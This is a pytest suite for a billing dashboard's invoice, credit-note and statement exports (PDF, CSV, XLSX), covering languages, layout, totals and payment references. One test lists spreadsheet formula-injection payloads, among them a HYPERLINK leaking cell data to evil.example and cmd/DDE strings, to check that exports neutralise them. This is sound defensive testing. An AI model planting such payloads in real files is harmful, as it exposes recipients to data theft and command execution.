"""Invoice, credit note and statement documents: what the customer reads in them.

Pure tests: documents are built from hand-made dataclasses, read back with pypdf (PDF),
zipfile + ElementTree (XLSX) and pandas (CSV). No database.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from datetime import date, timedelta
from xml.etree import ElementTree

import pandas as pd
import pytest
from pypdf import PdfReader

from dashboard.documents import (
    invoice_pdf,
    statement_csv,
    statement_frame,
    statement_pdf,
    statement_xlsx,
    to_csv,
    to_xlsx,
)
from dashboard.documents._pdf import DocumentPdf, country_name, pdf_safe
from dashboard.documents.invoice_pdf import line_columns, vat_columns
from dashboard.documents.labels import LABELS, labels_for
from dashboard.documents.samples import CUSTOMERS, sample_invoice, sample_statement
from dashboard.documents.statement_pdf import item_columns
from dashboard.documents.tables import (
    sheet_title,
    statement_date_columns,
    statement_money_columns,
)
from dashboard.formatting import LOCALES, day, money
from dashboard.services.invoices import (
    BillTo,
    InvoiceDetail,
    LineDetail,
    Settlement,
    VatGroup,
    structured_reference,
)
from dashboard.services.statement import BUCKETS, Statement, StatementItem
from dashboard.vendor import DEMO_VENDOR

LANGUAGES = ("fr", "nl", "de", "en")
SPACES = re.compile(r"[\s\u00a0\u202f]+")


def flat(text: str) -> str:
    """Any run of spaces (no-break, narrow no-break, line breaks) as one plain space.

    babel's French thousands separator is a narrow no-break space, which windows-1252 lacks:
    the PDF prints a no-break space there, and text extraction may break lines anywhere.
    """
    return SPACES.sub(" ", text).strip()


def pages_text(data: bytes) -> list[str]:
    return [flat(page.extract_text()) for page in PdfReader(io.BytesIO(data)).pages]


def pdf_text(data: bytes) -> str:
    return " ".join(pages_text(data))


def amount(cents: int, language: str) -> str:
    return flat(money(cents, LOCALES[language]))


# -- A hand-built invoice -----------------------------------------------------------------

def hand_invoice(language: str = "fr", **changes: object) -> InvoiceDetail:
    """Two lines, 21 % and 6 %, partly paid; customer and lines with accents."""
    lines = (
        LineDetail(1, "Écran Dell P2725H 27\" – garantie 3 ans", 2, 249_00, 21, 498_00,
                   104_58),
        LineDetail(2, "Installation chez Müller à Łódź (forfait)", 1, 1_234_56, 6, 1_234_56,
                   74_07),
    )
    detail = InvoiceDetail(
        id=7, customer_id=3, number="INV-2026-000777", kind="invoice", status="partially_paid",
        is_disputed=False, dispute_reason=None, issue_date=date(2026, 10, 15),
        due_date=date(2026, 11, 14), payment_reference="090933755493",
        net_cents=1_732_56, vat_cents=178_65, total_cents=1_911_21, open_cents=1_411_21,
        bill_to=BillTo("Société Générale Müller SA", "C200777", "BE 0417.497.106",
                       "Rue de l'Étuve 52", "1000", "Bruxelles", "BE", language),
        order_number="SO-2026-000321", contract_number=None, credited_invoice=None,
        lines=lines,
        vat_groups=(VatGroup(6, 1_234_56, 74_07), VatGroup(21, 498_00, 104_58)),
        settlements=(Settlement(date(2026, 10, 30), "payment", "BANK-123", 500_00),),
    )
    return replace(detail, **changes)  # type: ignore[arg-type]


def test_euro_and_accented_names_survive_the_core_font() -> None:
    text = pdf_text(invoice_pdf(hand_invoice("fr"), DEMO_VENDOR))
    assert "Société Générale Müller SA" in text
    assert "€" in text
    assert "Écran Dell P2725H 27\" – garantie 3 ans" in text
    # Ł is not in windows-1252: folded, not a failure.
    assert "Installation chez Müller à Lódz (forfait)" in text
    assert amount(1_234_56, "fr") == "1 234,56 €"
    assert amount(1_234_56, "fr") in text
    assert "+++090/9337/55493+++" in text


def test_text_outside_windows_1252_is_folded() -> None:
    assert pdf_safe("Société Müller €") == "Société Müller €"
    assert pdf_safe("Łódź Dvořák") == "Lódz Dvorák"
    assert pdf_safe("1\u202f234,56\u00a0€") == "1\u00a0234,56\u00a0€"
    assert pdf_safe("北京") == "??"


@pytest.mark.parametrize("language", LANGUAGES)
def test_invoice_speaks_the_customers_language(language: str) -> None:
    lb = labels_for(language)
    detail = sample_invoice(language, lines=50, paid_cents=1_000_00)
    data = invoice_pdf(detail, DEMO_VENDOR)
    pages = pages_text(data)
    text = " ".join(pages)

    meta = PdfReader(io.BytesIO(data)).metadata
    assert meta is not None and meta.title == f"{lb.invoice} {detail.number}"
    for label in (lb.invoice, lb.invoice_date, lb.due_date, lb.customer_number, lb.vat_number,
                  lb.your_order, lb.contract, lb.description, lb.quantity, lb.unit_price,
                  lb.vat_rate, lb.net, lb.vat_breakdown, lb.total_net, lb.total, lb.paid,
                  lb.amount_due, lb.pay_with_reference, lb.beneficiary):
        assert flat(label) in text, label
    assert detail.bill_to.name in text                       # accents and all
    assert detail.bill_to.customer_number in text
    assert day(detail.issue_date, lb.locale) in text
    assert day(detail.due_date, lb.locale) in text
    assert detail.structured_reference in text
    assert re.fullmatch(r"\+\+\+\d{3}/\d{4}/\d{5}\+\+\+", detail.structured_reference)
    assert DEMO_VENDOR.iban in text and DEMO_VENDOR.bic in text
    for cents in (detail.net_cents, detail.vat_cents, detail.total_cents, detail.paid_cents,
                  detail.open_cents):
        assert amount(cents, language) in text
    for group in detail.vat_groups:
        assert amount(group.vat_cents, language) in text
    # Page x of y on every page, in the language.
    assert len(pages) > 1
    for number, page in enumerate(pages, start=1):
        assert flat(lb.page.format(page=number, pages=len(pages))) in page


def test_fifty_lines_each_printed_once_with_the_header_on_every_page() -> None:
    lb = labels_for("nl")
    detail = sample_invoice("nl", lines=50)
    pages = pages_text(invoice_pdf(detail, DEMO_VENDOR))
    text = " ".join(pages)
    heading = flat(f"# {lb.description} {lb.quantity} {lb.unit_price} {lb.vat_rate} {lb.net}")
    # Rows: where each one starts ("<no> <description>"), on which page.
    starts = [(number, page.find(f" {ln.line_no} {ln.description[:24]}"))
              for ln in detail.lines for number, page in enumerate(pages)
              if f" {ln.line_no} {ln.description[:24]}" in page]
    assert [n for n, _ in starts] == sorted(n for n, _ in starts)
    assert len(starts) == 50                                 # each row once, in order
    line_pages = sorted({n for n, _ in starts})
    assert len(line_pages) >= 2                              # the table broke across pages
    for number in line_pages:                                # header repeated on each
        assert heading in pages[number]
        if number:
            assert f"{lb.invoice} {detail.number} ({lb.continued})" in pages[number]
    for ln in detail.lines:
        assert flat(ln.description) in text, ln.line_no
        assert amount(ln.net_cents, "nl") in text


@pytest.mark.parametrize("language", LANGUAGES)
def test_credit_note_says_what_it_credits_and_asks_no_payment(language: str) -> None:
    lb = labels_for(language)
    detail = sample_invoice(language, lines=4, kind="credit_note", number="CN-2026-000045")
    assert detail.total_cents < 0
    text = pdf_text(invoice_pdf(detail, DEMO_VENDOR))
    assert f"{flat(lb.credit_note)} {detail.number}" in text
    assert flat(lb.credits_invoice.format(number="INV-2026-000087")) in text
    assert flat(lb.credit_note_date) in text
    assert flat(lb.credit_remaining) in text
    # Printed as positive amounts, the way credit notes are.
    assert amount(-detail.total_cents, language) in text
    assert amount(detail.total_cents, language) not in text
    assert flat(lb.pay_with_reference) not in text
    assert "+++" not in text
    assert flat(lb.invoice_date) not in text


def test_disputed_invoice_carries_the_note_and_reason() -> None:
    lb = labels_for("de")
    detail = hand_invoice("de", is_disputed=True, dispute_reason="Lieferung unvollständig")
    text = pdf_text(invoice_pdf(detail, DEMO_VENDOR))
    assert lb.disputed in text
    assert flat(lb.dispute_note) in text
    assert "Grund: Lieferung unvollständig" in text
    assert "Beanstandet" not in pdf_text(invoice_pdf(hand_invoice("de"), DEMO_VENDOR))


def test_paid_invoice_thanks_instead_of_asking() -> None:
    lb = labels_for("en")
    detail = hand_invoice("en", open_cents=0, status="paid")
    text = pdf_text(invoice_pdf(detail, DEMO_VENDOR))
    assert lb.paid_in_full in text
    assert lb.pay_with_reference not in text
    assert f"{lb.amount_due} {amount(0, 'en')}" in text


def test_invoice_lists_its_credit_notes_and_settlements() -> None:
    lb = labels_for("en")
    detail = hand_invoice("en", credit_notes=("CN-2026-000001", "CN-2026-000002"))
    text = pdf_text(invoice_pdf(detail, DEMO_VENDOR))
    assert lb.credited_by.format(numbers="CN-2026-000001, CN-2026-000002") in text
    assert f"{day(date(2026, 10, 30), 'en_BE')} {lb.settlement_payment} BANK-123" in text


def test_same_invoice_same_bytes_and_metadata() -> None:
    detail = hand_invoice("nl")
    first, second = invoice_pdf(detail, DEMO_VENDOR), invoice_pdf(detail, DEMO_VENDOR)
    assert first == second
    meta = PdfReader(io.BytesIO(first)).metadata
    assert meta is not None
    assert meta.title == "Factuur INV-2026-000777"
    assert meta.author == DEMO_VENDOR.name
    assert meta.creation_date is not None
    assert meta.creation_date.date() == detail.issue_date


def test_long_description_wraps_within_its_column() -> None:
    long = ("Very long description " * 12).strip()
    detail = hand_invoice("en", lines=(LineDetail(1, long, 1, 10_00, 21, 10_00, 2_10),))
    text = pdf_text(invoice_pdf(detail, DEMO_VENDOR))
    assert long in text                                   # wrapped, not cut


@pytest.mark.parametrize("language", LANGUAGES)
def test_table_headings_wrap_between_words_only(language: str) -> None:
    lb = labels_for(language)
    pdf = DocumentPdf(vendor=DEMO_VENDOR, labels=lb, running_title="")
    for size, columns in ((8, line_columns(lb)), (8, vat_columns(lb)),
                          (7.5, item_columns(lb))):
        pdf.style(size, bold=True)
        for column in columns:
            for word in column.title.split():
                assert pdf.get_string_width(word) <= column.width - 2 * pdf.c_margin, word


def test_labels_are_complete_in_every_language() -> None:
    assert set(LABELS) == set(LOCALES)
    for lb in LABELS.values():
        assert all(str(value).strip() for value in vars(lb).values())
        assert lb.page.format(page=1, pages=2)
    assert labels_for("FR") is LABELS["fr"] and labels_for(None) is LABELS["en"]
    assert labels_for("nl").bucket("90+") == "Meer dan 90 dagen"
    assert labels_for("fr").bucket("1-30") == "1–30 jours"


# -- Statement of account ---------------------------------------------------------------

def hand_statement(language: str = "fr") -> Statement:
    as_of = date(2026, 11, 24)
    rows = [  # kind, number, date, due, original, open, reference
        ("invoice", "INV-2026-000100", as_of - timedelta(days=130), as_of - timedelta(days=100),
         1_000_00, 1_000_00, structured_reference("090933755493")),
        ("invoice", "INV-2026-000200", as_of - timedelta(days=50), as_of - timedelta(days=20),
         2_345_67, 1_345_67, structured_reference("000097403861")),
        ("credit_note", "CN-2026-000010", as_of - timedelta(days=10), as_of - timedelta(days=10),
         -150_00, -150_00, ""),
        ("invoice", "INV-2026-000300", as_of - timedelta(days=5), as_of + timedelta(days=25),
         12_345_678_90, 12_345_678_90, structured_reference("000104729017")),
        ("payment", "CODA-2026-000000077", as_of - timedelta(days=3), as_of - timedelta(days=3),
         -200_00, -200_00, ""),
    ]
    items, balance = [], 0
    ageing = dict.fromkeys(BUCKETS, 0)
    for kind, number, doc_date, due, original, open_cents, ref in rows:
        balance += open_cents
        days = (as_of - due).days
        bucket = ("current" if days <= 0 else "1-30" if days <= 30 else "31-60" if days <= 60
                  else "61-90" if days <= 90 else "90+")
        ageing[bucket] += open_cents
        items.append(StatementItem(kind, number, doc_date, due, original, open_cents, balance,
                                   max(days, 0), bucket, ref))
    return Statement(1, replace(CUSTOMERS["fr"], language=language), as_of, tuple(items),
                     ageing)


@pytest.mark.parametrize("language", LANGUAGES)
def test_statement_pdf_in_the_customers_language(language: str) -> None:
    lb = labels_for(language)
    st = hand_statement(language)
    data = statement_pdf(st, DEMO_VENDOR)
    text = pdf_text(data)
    for label in (lb.statement, lb.statement_date, lb.customer_number, lb.ageing,
                  lb.open_items, lb.date, lb.document, lb.total_due, lb.how_to_pay):
        assert flat(label) in text, label
    for bucket in BUCKETS:
        assert flat(lb.bucket(bucket)) in text
        assert amount(st.ageing[bucket], language) in text
    assert st.bill_to.name in text
    assert day(st.as_of, lb.locale) in text
    for item in st.items:
        assert item.number in text
        assert amount(item.balance_cents, language) in text
    assert structured_reference("090933755493") in text
    assert flat(lb.kind_payment) in text and flat(lb.kind_credit_note) in text
    assert DEMO_VENDOR.iban in text
    # The total printed is the statement's total, and the last running balance.
    assert st.items[-1].balance_cents == st.total_cents
    label = flat(lb.total_due)
    # In the ageing band and under the table: each time followed by the statement's total.
    assert text.count(label) == 2
    assert text.count(f"{label} {amount(st.total_cents, language)}") == 2
    assert flat(f"{lb.of_which_overdue}{lb.colon} {money(st.overdue_cents, lb.locale)}") in text
    assert flat(lb.page.format(page=1, pages=1)) in text


def test_long_statement_pages_and_totals() -> None:
    lb = labels_for("nl")
    st = sample_statement("nl", items=400)
    pages = pages_text(statement_pdf(st, DEMO_VENDOR))
    assert len(pages) > 5
    heading = flat(f"{lb.date} {lb.document}")
    assert all(heading in p for p in pages[:-1])
    for number, page in enumerate(pages, start=1):
        assert flat(lb.page.format(page=number, pages=len(pages))) in page
    text = " ".join(pages)
    assert sum(text.count(f" {item.number} ") for item in st.items) >= len(st.items)
    assert f"{flat(lb.total_due)} {amount(st.total_cents, 'nl')}" in text


def test_statement_without_open_items() -> None:
    lb = labels_for("de")
    st = Statement(1, CUSTOMERS["de"], date(2026, 11, 24), (), dict.fromkeys(BUCKETS, 0))
    text = pdf_text(statement_pdf(st, DEMO_VENDOR))
    assert lb.no_open_items in text
    assert lb.how_to_pay_text[:20] not in text


# -- CSV and XLSX -----------------------------------------------------------------------

def test_csv_round_trips_with_bom_and_accents() -> None:
    frame = pd.DataFrame({
        "Client": ["Société Générale", "Müller GmbH", "Ørsted, \"quoted\"\nline"],
        "Amount": [1, -2, 3],
        "Day": ["2026-11-24", "2026-01-02", "2025-12-31"],
    })
    data = to_csv(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data and data.decode("utf-8-sig").startswith("Client;Amount;Day")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", sep=";", decimal=",")
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_csv_money_columns_in_euros() -> None:
    frame = pd.DataFrame({"What": ["a", "b"], "Cents": [123456, -5]})
    back = pd.read_csv(io.BytesIO(to_csv(frame, money_columns=["Cents"])),
                       encoding="utf-8-sig", dtype=str, sep=";")
    assert back["Cents"].tolist() == ["1234,56", "-0,05"]   # a Belgian Excel reads numbers


@pytest.mark.parametrize("payload", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
])
def test_csv_cells_that_would_run_as_formulas_are_text(payload: str) -> None:
    frame = pd.DataFrame({"Subject": [payload, "Plain subject"], "Amount": [-5, 7]})
    back = pd.read_csv(io.BytesIO(to_csv(frame)), encoding="utf-8-sig", sep=";", dtype=str,
                       keep_default_na=False)
    assert back["Subject"].tolist() == ["'" + payload, "Plain subject"]
    assert back["Amount"].tolist() == ["-5", "7"]          # numbers stay numbers


def test_statement_csv_equals_the_frame() -> None:
    st = hand_statement("fr")
    frame = statement_frame(st)
    lb = labels_for("fr")
    assert list(frame.columns)[:3] == [lb.date, lb.kind_column, lb.document]
    back = pd.read_csv(io.BytesIO(statement_csv(st)), encoding="utf-8-sig",
                       keep_default_na=False, sep=";", decimal=",")
    expected = frame.copy()
    for column in statement_money_columns("fr"):
        expected[column] = expected[column] / 100
    for column in statement_date_columns("fr"):
        expected[column] = expected[column].map(lambda d: d.strftime("%d/%m/%Y"))
    # +++…+++ would start a formula in a spreadsheet: it is kept as text.
    expected = expected.map(lambda v: "'" + v if isinstance(v, str) and v.startswith("+") else v)
    pd.testing.assert_frame_equal(back, expected, check_dtype=False)
    assert back[lb.open].sum() * 100 == pytest.approx(st.total_cents)


def test_statement_frame_in_another_language() -> None:
    st = hand_statement("fr")
    frame = statement_frame(st, "en")
    assert "Running balance" in frame.columns
    assert frame["Type"].tolist() == ["Invoice", "Invoice", "Credit note", "Invoice", "Payment"]
    assert frame["Running balance"].iloc[-1] == st.total_cents


NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def xlsx_sheet(data: bytes, number: int) -> tuple[dict[str, str], str]:
    """Cell reference -> text or value of one worksheet, and its raw XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read(f"xl/worksheets/sheet{number}.xml").decode()
        strings = []
        if "xl/sharedStrings.xml" in z.namelist():
            root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            strings = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
                       for si in root.findall("m:si", NS)]
    cells: dict[str, str] = {}
    for c in ElementTree.fromstring(xml).iter(f"{{{NS['m']}}}c"):
        kind, value = c.get("t"), c.find("m:v", NS)
        if kind == "inlineStr":
            cells[c.get("r", "")] = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
        elif kind == "s" and value is not None:
            cells[c.get("r", "")] = strings[int(value.text or 0)]
        elif value is not None:
            cells[c.get("r", "")] = value.text or ""
    return cells, xml


def excel_serial(day_: date) -> str:
    return str((day_ - date(1899, 12, 30)).days)


def test_xlsx_has_euros_dates_bold_frozen_header_and_filters() -> None:
    frame = pd.DataFrame({
        "Client": ["Société Générale", "Müller GmbH"],
        "Amount": [123456, -5],
        "Due": [date(2026, 11, 24), date(2026, 1, 2)],
        "Days": [3, 0],
    })
    data = to_xlsx(frame, "Open items: 2026/11", money_columns=["Amount"],
                   date_columns=["Due"])
    cells, xml = xlsx_sheet(data, 1)
    assert [cells[r] for r in ("A1", "B1", "C1", "D1")] == ["Client", "Amount", "Due", "Days"]
    assert cells["A2"] == "Société Générale" and cells["A3"] == "Müller GmbH"
    assert float(cells["B2"]) == 1234.56 and float(cells["B3"]) == -0.05
    assert cells["C2"] == excel_serial(date(2026, 11, 24))
    assert cells["D2"] == "3"
    assert 'state="frozen"' in xml and 'ySplit="1"' in xml
    assert '<autoFilter ref="A1:D3"/>' in xml
    assert "<cols>" in xml
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = z.read("xl/styles.xml").decode()
        workbook = z.read("xl/workbook.xml").decode()
    assert "#,##0.00" in styles and "€" in styles and "dd/mm/yyyy" in styles
    assert "<b/>" in styles
    assert 'name="Open items  2026 11"' in workbook


def test_exports_take_nullable_cents_and_timestamps() -> None:
    """As the list pages hand them over: Int64 cents with gaps, pandas timestamps, NaT."""
    frame = pd.DataFrame({
        "Number": ["INV-1", "INV-2"],
        "Open": pd.array([1_234_56, None], dtype="Int64"),
        "Due": pd.to_datetime(["2026-11-24", None]),
        "Disputed": [True, False],
    })
    back = pd.read_csv(io.BytesIO(to_csv(frame, money_columns=["Open"])),
                       encoding="utf-8-sig", dtype=str, keep_default_na=False, sep=";")
    assert back.to_dict("list") == {"Number": ["INV-1", "INV-2"], "Open": ["1234,56", ""],
                                    "Due": ["24/11/2026", ""],
                                    "Disputed": ["True", "False"]}
    cells, _ = xlsx_sheet(to_xlsx(frame, "Invoices", money_columns=["Open"],
                                  date_columns=["Due"]), 1)
    assert float(cells["B2"]) == 1234.56 and "B3" not in cells
    assert cells["C2"] == excel_serial(date(2026, 11, 24)) and "C3" not in cells
    assert cells["D2"] == "1" and cells["D3"] == "0"


def test_country_names_in_the_documents_language() -> None:
    assert country_name("BE", "fr_BE") == "Belgique"
    assert country_name("LU", "de_BE") == "Luxemburg"
    assert country_name("Belgium", "nl_BE") == "België"       # the vendor's, as configured
    assert country_name("Atlantis", "nl_BE") == "Atlantis"


def test_xlsx_of_an_empty_frame() -> None:
    data = to_xlsx(pd.DataFrame({"A": [], "B": []}), "Empty", money_columns=["B"])
    cells, _ = xlsx_sheet(data, 1)
    assert cells == {"A1": "A", "B1": "B"}


def test_sheet_titles_are_valid() -> None:
    assert sheet_title("a/b:c*d?e[f]g\\h") == "a b c d e f g h"
    assert len(sheet_title("x" * 40)) == 31
    assert sheet_title("///") == "Sheet1"


def test_statement_xlsx_items_and_ageing() -> None:
    st = hand_statement("nl")
    lb = labels_for("nl")
    data = statement_xlsx(st)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        workbook = z.read("xl/workbook.xml").decode()
    assert f'name="{lb.open_items}"' in workbook and f'name="{lb.ageing}"' in workbook
    items, _ = xlsx_sheet(data, 1)
    assert items["A1"] == lb.date and items["J1"] == lb.running_balance
    assert items["C2"] == "INV-2026-000100"
    assert items["B6"] == lb.kind_payment
    assert float(items[f"J{len(st.items) + 1}"]) == pytest.approx(st.total_cents / 100)
    summary, _ = xlsx_sheet(data, 2)
    assert summary["A2"] == st.bill_to.name
    values = {summary[f"A{r}"]: summary.get(f"B{r}") for r in range(7, 14) if f"A{r}" in summary}
    for bucket in BUCKETS:
        assert float(values[lb.bucket(bucket)] or 0) == pytest.approx(st.ageing[bucket] / 100)
    assert float(values[lb.total_due] or 0) == pytest.approx(st.total_cents / 100)
    assert float(values[lb.of_which_overdue] or 0) == pytest.approx(st.overdue_cents / 100)
    assert statement_xlsx(st) == data                      # same statement, same bytes
